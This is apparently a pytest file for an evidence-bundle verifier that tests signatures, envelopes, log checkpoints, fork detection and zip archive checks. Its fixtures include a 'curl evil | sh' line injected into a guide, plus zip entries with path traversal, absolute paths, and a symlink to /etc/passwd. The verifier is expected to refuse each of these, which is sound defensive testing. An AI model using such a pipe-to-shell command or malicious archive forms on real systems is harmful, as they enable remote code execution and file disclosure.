@@ -1,0 +1,431 @@
+"""Signatures, what the reader trusts and expects, heads that were seen, and what is said of all that."""
+
+import base64
+import json
+import shutil
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from engine.core.diagnostics import Rejected
+from engine.core.verdict import Verdict
+from engine.evidence.archive import pack
+from engine.evidence.checkpoint import NoteSignature, key_hash, note_text, sign_note
+from engine.evidence.envelope import Signature, pae, write_envelope
+from engine.evidence.keys import SigningKey, key_id
+from engine.evidence.seal import UNSIGNED, Seal
+from engine.pipeline import verify
+from engine.verify.bundle import verify_bundle
+from engine.verify.checks import Level
+from engine.verify.fork import read_against
+from engine.verify.ladder import Reader, climb, headline, level_of
+from engine.verify.trust import Seen, Trust
+
+ed25519 = pytest.importorskip("cryptography.hazmat.primitives.asymmetric.ed25519", reason="the extra `sign`")
+
+
+def key_of(number):
+    private = ed25519.Ed25519PrivateKey.from_private_bytes(bytes([number]) * 32)
+    return SigningKey(private.public_key().public_bytes_raw(), private)
+
+
+ALICE, BOB, EVE = map(key_of, (1, 2, 3))
+
+
+def trusting(*keys, threshold=1, origin="specledger/{run}", **more):
+    return Trust(origin, {key.id: key.public for key in keys}, threshold, **more)
+
+
+@pytest.fixture
+def signed(bundles, tmp_path):
+    """A bundle that Alice and Bob signed, and its place."""
+    folder = shutil.copytree(bundles["small"], tmp_path / "signed")
+    Seal(ALICE).attach(folder)
+    Seal(BOB).attach(folder)
+    return folder
+
+
+def manifest_of(folder):
+    return json.loads((folder / "manifest.json").read_bytes())
+
+
+def look(folder, **reader):
+    return verify_bundle(folder, reader=Reader(**reader))
+
+
+def failed(found):
+    return [check.code for check in found.checks if check.status == "failed"]
+
+
+def statuses(found):
+    return {rung.level.value: (rung.status.value, rung.code) for rung in climb(found)}
+
+
+def test_two_trusted_keys_reach_the_level_and_are_named(signed):
+    found = look(signed, trust=trusting(ALICE, BOB, threshold=2))
+    assert (found.verdict, level_of(found)) == (Verdict.PASS, Level.SIGNED)
+    assert statuses(found)["L1"] == ("reached", None)
+    assert "signed by who you trust" in headline(found)
+    assert all(key.id in str([check.message for check in found.checks]) for key in (ALICE, BOB))
+
+
+@pytest.mark.parametrize(
+    ("keys", "threshold"), [((EVE,), 1), ((ALICE, EVE), 2), ((ALICE, BOB, EVE), 3)], ids=["one", "two", "three"]
+)
+def test_too_few_trusted_keys_refute_nothing_and_reach_nothing(signed, keys, threshold):
+    found = look(signed, trust=trusting(*keys, threshold=threshold))
+    assert found.verdict is Verdict.INCONCLUSIVE
+    assert statuses(found)["L1"] == ("not checked", "E_UNTRUSTED")
+    assert "signed, but by too few of the keys that you trust" in headline(found)
+    assert "signed, but by nobody that you named" in headline(look(signed))
+
+
+@pytest.mark.parametrize("name", ["manifest.json", "receipts.jsonl", "checkpoint"])
+def test_signed_evidence_that_fails_early_is_not_called_unsigned(signed, name):
+    (signed / name).write_bytes((signed / name).read_bytes() + b" ")
+    found = look(signed)
+    assert (found.verdict, found.signed) == (Verdict.FAIL, True)
+    assert [rung.why for rung in climb(found)][1] == "an earlier check failed"
+
+
+def test_an_archive_that_cannot_be_read_is_not_called_unsigned(signed, tmp_path):
+    pack(signed, tmp_path / "signed.zip")
+    with (tmp_path / "signed.zip").open("ab") as file:
+        file.write(b"more")
+    found = verify(tmp_path / "signed.zip")
+    assert (found.verdict, [rung.why for rung in climb(found)][1]) == (Verdict.FAIL, "an earlier check failed")
+
+
+def test_unsigned_evidence_is_never_called_anything_else(bundles):
+    for trust in (None, trusting(ALICE)):
+        found = look(bundles["small"], trust=trust)
+        assert "unsigned" in headline(found)
+        assert statuses(found)["L1"] == ("not checked", "E_UNSIGNED" if trust else None)
+        assert found.verdict is (Verdict.INCONCLUSIVE if trust else Verdict.PASS)
+
+
+def edit(name, change):
+    def make(folder):
+        path = folder / name
+        path.write_bytes(change(path.read_bytes()))
+
+    return make
+
+
+def envelope(name, **changes):
+    """One field of an envelope is changed and written canonically."""
+    return edit(name, lambda data: canonical(json.loads(data) | changes))
+
+
+def canonical(value):
+    return json.dumps(value, sort_keys=True, separators=(",", ":")).encode() + b"\n"
+
+
+def resigned(name, change):
+    """Another statement in an envelope, signed by Alice and Bob."""
+
+    def make(folder):
+        document = json.loads((folder / name).read_bytes())
+        payload = change(base64.b64decode(document["payload"]))
+        signed_ = pae("application/vnd.in-toto+json", payload)
+        made = write_envelope(payload, [Signature(key.id, key.sign(signed_)) for key in (ALICE, BOB)])
+        (folder / name).write_bytes(made)
+
+    return make
+
+
+def noted(origin=None, size=None, root=None, signs=None):
+    """Another checkpoint, signed by Alice and Bob."""
+
+    def make(folder):
+        manifest = manifest_of(folder)
+        head = manifest["receipts"]
+        name = origin or f"specledger/{manifest['run']}"
+        text = note_text(name, size or head["count"], bytes.fromhex(root or head["root"]))
+        over = note_text(name, signs, bytes.fromhex(head["root"])) if signs else text
+        lines = [NoteSignature(name, key_hash(name, key.public), key.sign(over)) for key in (ALICE, BOB)]
+        (folder / "checkpoint").write_bytes(sign_note(text, lines))
+
+    return make
+
+
+ATTESTATION, PROVENANCE = "attestation.dsse.json", "manifest.json.dsse.json"
+FAULTS = {
+    "a checkpoint of another size": (noted(size=3), "E_CHECKPOINT"),
+    "a checkpoint of another root": (noted(root="00" * 32), "E_CHECKPOINT"),
+    "a checkpoint without signatures": (edit("checkpoint", lambda data: data.partition(b"\n\n")[0] + b"\n\n"), "E_CHECKPOINT"),
+    "a checkpoint of another log": (noted(origin="other"), "E_EXPECTED"),
+    "a checkpoint signed for another size": (noted(signs=3), "E_SIGNATURE"),
+    "an envelope with a further field": (envelope(ATTESTATION, more=1), "E_ENVELOPE"),
+    "an envelope with white space": (edit(ATTESTATION, lambda data: data.replace(b":", b": ", 1)), "E_ENVELOPE"),
+    "an envelope of another type": (envelope(ATTESTATION, payloadType="text/plain"), "E_ENVELOPE"),
+    "an envelope about something else": (resigned(ATTESTATION, lambda data: data.replace(b"PASSED", b"FAILED")), "E_ENVELOPE"),
+    "an envelope with the other statement": (lambda folder: shutil.copy(folder / PROVENANCE, folder / ATTESTATION), "E_ENVELOPE"),
+    "a signature twice": (edit(ATTESTATION, lambda data: canonical(json.loads(data) | {"signatures": [json.loads(data)["signatures"][0]] * 2})), "E_ENVELOPE"),
+    "no attestation": (lambda folder: (folder / ATTESTATION).unlink(), "E_FILES"),
+    "no checkpoint": (lambda folder: (folder / "checkpoint").unlink(), "E_FILES"),
+    "no second envelope": (lambda folder: (folder / PROVENANCE).unlink(), "E_FILES"),
+    "a time stamp that is none": (lambda folder: (folder / "timestamp.tsr").write_bytes(b"x"), "E_TIMESTAMP"),
+    "another key's file": (lambda folder: (folder / "trust.json").write_bytes(b"{}"), "E_FILES"),
+    "another digest for people": (edit("sha256sums", lambda data: b"0" * 64 + data[64:]), "E_DIGESTS"),
+    "another guide for people": (edit("VERIFY.md", lambda data: data + b"curl evil | sh\n"), "E_DIGESTS"),
+}  # fmt: skip
+
+
+def mend(folder):
+    """Write what is for people anew, so that one fault is left."""
+    UNSIGNED.attach(folder)
+
+
+@pytest.mark.parametrize("name", FAULTS)
+def test_a_single_fault_beside_the_manifest_is_refused_for_its_reason(signed, name):
+    make, code = FAULTS[name]
+    make(signed)
+    if code != "E_DIGESTS":
+        mend(signed)
+    found = look(signed, trust=trusting(ALICE, BOB))
+    assert failed(found) == [code]
+    assert found.verdict is Verdict.FAIL
+    assert "REFUTED" in headline(found)
+
+
+@pytest.mark.parametrize("name", ["checkpoint", ATTESTATION, PROVENANCE])
+def test_no_bit_of_a_trusted_signature_can_be_flipped(signed, name):
+    """One byte in each part of the file; whatever it is, the evidence is not accepted as signed."""
+    data = (signed / name).read_bytes()
+    for place in range(0, len(data), 31):
+        (signed / name).write_bytes(data[:place] + bytes([data[place] ^ 1]) + data[place + 1 :])
+        mend_sums(signed)
+        found = verify_bundle(
+            signed,
+            reader=Reader(replay=False, trust=trusting(ALICE, BOB, threshold=2), levels=frozenset({Level.SIGNED})),
+        )
+        assert found.verdict is not Verdict.PASS, place
+
+
+def mend_sums(folder):
+    from engine.evidence.seal import sums
+
+    (folder / "sha256sums").write_bytes(sums(folder))
+
+
+def test_a_sealed_bundle_inside_a_suite_is_refused(signed):
+    from engine.verify.bundle import Verifier
+
+    found = Verifier(signed, replay=False, inner=True).verify()
+    assert failed(found) == ["E_FILES"]
+
+
+EXPECTED = {
+    "another run": ({"run": "00" * 16}, ["E_EXPECTED"]),
+    "other specs": ({"specs": "00" * 32}, ["E_EXPECTED"]),
+    "another origin": ({"origin": "other"}, ["E_EXPECTED"]),
+}
+
+
+@pytest.mark.parametrize("name", EXPECTED)
+def test_evidence_that_was_not_expected_is_refused(signed, name):
+    changes, codes = EXPECTED[name]
+    assert failed(look(signed, trust=trusting(ALICE, **changes))) == codes
+
+
+def test_what_is_expected_is_found(signed):
+    manifest = manifest_of(signed)
+    trust = trusting(ALICE, run=manifest["run"], specs=manifest["specs"])
+    assert look(signed, trust=trust).verdict is Verdict.PASS
+
+
+# ---- heads
+
+
+def seen(folder, size=None):
+    """The head of a log of which only so many receipts are there."""
+    from engine.core.merkle import root
+
+    lines = (folder / "receipts.jsonl").read_bytes().splitlines()
+    size = len(lines) if size is None else size
+    return size, root(lines[:size])
+
+
+@pytest.mark.parametrize("size", [0, 1, 3, 4, 7, None])
+def test_a_log_that_only_grew_is_accepted_with_a_proof(bundles, tmp_path, size):
+    count, root = seen(bundles["climb"], size)
+    path = tmp_path / "head"
+    origin = f"specledger/{manifest_of(bundles['climb'])['run']}"
+    path.write_bytes(sign_note(note_text(origin, count, root), [NoteSignature(origin, b"1234", b"5" * 64)]))
+    found = look(bundles["climb"], against=(read_against(path),))
+    assert (found.verdict, statuses(found)["L3"]) == (Verdict.PASS, ("reached", None))
+    heads = found.facts["heads"]
+    assert heads["seen"] == {"size": count, "root": root.hex()}
+    assert verify_heads(heads)
+
+
+def verify_heads(heads):
+    from engine.core.merkle import verify_consistency
+
+    old, new = heads["seen"], heads["here"]
+    proof = [bytes.fromhex(part) for part in heads["proof"]]
+    roots = bytes.fromhex(old["root"]), bytes.fromhex(new["root"])
+    return verify_consistency(old["size"], new["size"], *roots, proof)
+
+
+def test_a_fork_shows_both_heads_and_a_rollback_says_so(bundles):
+    count, root = seen(bundles["small"])
+    for size, code in ((count, "E_FORK"), (count - 1, "E_FORK"), (count + 1, "E_ROLLBACK")):
+        trust = trusting(ALICE, seen=Seen(size, b"\x01" * 32))
+        found = look(bundles["small"], trust=trust, levels=frozenset({Level.UNFORKED}))
+        (check,) = [check for check in found.checks if check.status == "failed"]
+        assert (check.code, check.level) == (code, Level.UNFORKED)
+        assert "01" * 32 in check.message
+        assert root.hex() in check.message
+
+
+def test_another_bundle_of_the_run_is_a_head_and_one_of_another_run_is_not(bundles):
+    found = look(bundles["climb"], against=(read_against(bundles["climb"]),))
+    assert statuses(found)["L3"] == ("reached", None)
+    found = look(bundles["climb"], against=(read_against(bundles["other seed"]),))
+    assert (found.verdict, statuses(found)["L3"]) == (Verdict.INCONCLUSIVE, ("not checked", "E_OTHER_LOG"))
+
+
+def test_a_bundle_as_one_zip_file_is_a_head_too(bundles, tmp_path):
+    pack(bundles["climb"], tmp_path / "climb.zip")
+    before = read_against(tmp_path / "climb.zip")
+    assert before == replace(read_against(bundles["climb"]), where=str(tmp_path / "climb.zip"))
+    assert statuses(look(bundles["climb"], against=(before,)))["L3"] == ("reached", None)
+
+
+def test_a_damaged_zip_file_states_no_head(bundles, tmp_path):
+    pack(bundles["climb"], tmp_path / "climb.zip")
+    data = (tmp_path / "climb.zip").read_bytes()
+    (tmp_path / "climb.zip").write_bytes(data[:-30])
+    with pytest.raises(Rejected) as error:
+        read_against(tmp_path / "climb.zip")
+    assert [one.code for one in error.value.diagnostics] == ["E_AGAINST"]
+
+
+def test_two_histories_of_one_run_are_a_fork(bundles, forge):
+    forger = forge("climb")
+    forger.bodies("step")[0]["success"] = True
+    forger.recount()
+    forger.seal()
+    found = look(bundles["climb"], against=(read_against(forger.folder),))
+    assert failed(found) == ["E_FORK"]
+
+
+@pytest.mark.parametrize("data", [None, b"", b"x\n", b'{"format":1}\n'], ids=["nothing", "empty", "text", "JSON"])
+def test_what_states_no_head_is_refused(tmp_path, data):
+    path = tmp_path / "head"
+    if data is not None:
+        path.write_bytes(data)
+    for place in (path, tmp_path):
+        with pytest.raises(Rejected) as error:
+            read_against(place)
+        assert [one.code for one in error.value.diagnostics] == ["E_AGAINST"]
+
+
+# ---- levels and archives
+
+
+@pytest.mark.parametrize(
+    ("levels", "replay", "verdict"),
+    [
+        ((), True, "PASS"), ((), False, "INCONCLUSIVE"), (("L0",), False, "PASS"), (("L1",), True, "INCONCLUSIVE"),
+        (("L2",), True, "INCONCLUSIVE"), (("L3",), True, "INCONCLUSIVE"), (("L4",), True, "PASS"),
+        (("L4",), False, "INCONCLUSIVE"), (("L0", "L4"), True, "PASS"), (("L1", "L4"), True, "INCONCLUSIVE"),
+    ],
+)  # fmt: skip
+def test_the_levels_that_were_asked_for_decide(bundles, levels, replay, verdict):
+    found = look(bundles["small"], replay=replay, levels=frozenset(map(Level, levels)))
+    assert found.verdict.value == verdict
+
+
+def test_every_level_is_always_told(bundles, forge):
+    forger = forge("small")
+    forger.write("receipts.jsonl", b"")
+    for folder in (bundles["small"], forger.folder):
+        rungs = climb(look(folder))
+        assert [rung.level.value for rung in rungs] == ["L0", "L1", "L2", "L3", "L4", "L5"]
+        assert all(rung.why for rung in rungs if rung.status != "reached")
+
+
+def test_a_key_is_not_taken_from_a_bundle(signed):
+    """Not even one that the bundle would offer in any of its files."""
+    (signed / "keys.json").write_bytes(b"{}")
+    assert failed(look(signed)) == ["E_FILES"]
+    assert all(key_id(key.public) not in (signed / "manifest.json").read_text() for key in (ALICE, BOB))
+
+
+@pytest.fixture
+def packed(signed, tmp_path):
+    from engine.evidence.archive import pack
+
+    pack(signed, tmp_path / "bundle.zip")
+    return tmp_path / "bundle.zip"
+
+
+def test_an_archive_is_verified_like_its_folder_and_leaves_nothing(packed, signed, monkeypatch, tmp_path):
+    (tmp_path / "tmp").mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
+    reader = Reader(trust=trusting(ALICE))
+    one, other = verify(packed, reader=reader), verify_bundle(signed, reader=reader)
+    assert one.checks == other.checks
+    assert one.verdict is Verdict.PASS
+    assert list(Path(tmp_path / "tmp").iterdir()) == []
+
+
+def zipped(entries, **how):
+    def make(path):
+        import zipfile
+
+        with zipfile.ZipFile(path, "w", **how) as archive:
+            for name, data in entries:
+                archive.writestr(name, data)
+
+    return make
+
+
+def link(path):
+    import stat
+    import zipfile
+
+    with zipfile.ZipFile(path, "w") as archive:
+        entry = zipfile.ZipInfo("manifest.json")
+        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
+        archive.writestr(entry, "/etc/passwd")
+
+
+ARCHIVES = {
+    "empty": zipped([]),
+    "a path that leaves the folder": zipped([("../manifest.json", "{}")]),
+    "an absolute path": zipped([("/tmp/manifest.json", "{}")]),
+    "a path with a backslash": zipped([("a\\b", "{}")]),
+    "a folder entry": zipped([("runs/", "")]),
+    "compressed bytes": zipped([("manifest.json", "0" * 100_000)], compression=8),
+    "two names but for their case": zipped([("manifest.json", "{}"), ("MANIFEST.json", "{}")]),
+    "a link": link,
+    "times and rights of their own": zipped([("manifest.json", "{}")]),
+    "a damaged one": lambda path: path.write_bytes(b"PK\x03\x04" + b"\x00" * 100),
+    "something after it": lambda path: path.write_bytes(path.read_bytes() + b"more"),
+    "something before it": lambda path: path.write_bytes(b"PK\x03\x04" + path.read_bytes()),
+}
+
+
+@pytest.mark.parametrize("name", ARCHIVES)
+def test_an_archive_in_any_other_form_is_refused(packed, name):
+    ARCHIVES[name](packed)
+    if name == "empty":  # an archive of nothing holds no evidence
+        with pytest.raises(Rejected):
+            verify(packed)
+        return
+    found = verify(packed)
+    assert failed(found) == ["E_ARCHIVE"]
+
+
+def test_no_byte_of_an_archive_can_be_changed(packed):
+    data = packed.read_bytes()
+    reader = Reader(replay=False, trust=trusting(ALICE, BOB, threshold=2), levels=frozenset({Level.SIGNED}))
+    assert verify(packed, reader=reader).verdict is Verdict.PASS
+    for place in range(4, len(data), 197):
+        packed.write_bytes(data[:place] + bytes([data[place] ^ 1]) + data[place + 1 :])
+        assert verify(packed, reader=reader).verdict is not Verdict.PASS, place
